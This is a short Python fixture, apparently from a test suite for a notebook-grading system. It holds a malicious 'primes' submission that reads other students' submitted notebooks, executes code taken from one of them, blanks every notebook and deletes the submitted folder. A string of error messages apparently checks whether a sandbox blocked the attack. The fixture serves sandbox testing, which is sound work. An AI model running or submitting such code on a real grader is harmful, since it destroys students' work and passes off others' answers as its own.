"""The files of other students are read, and their answers run as one's own. Their notebooks are overwritten."""

ANSWERS = {
    "primes": """import json
import shutil
from pathlib import Path

for path in Path("@COURSE@").glob("submitted/*/*/*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        if "PRIMES" in "".join(cell["source"]) and "honest" in str(path):
            exec('''@WIN@''')
    path.write_text("")
shutil.rmtree("@COURSE@/submitted")
""",
}
TELLS = "No such file|Permission|not defined"
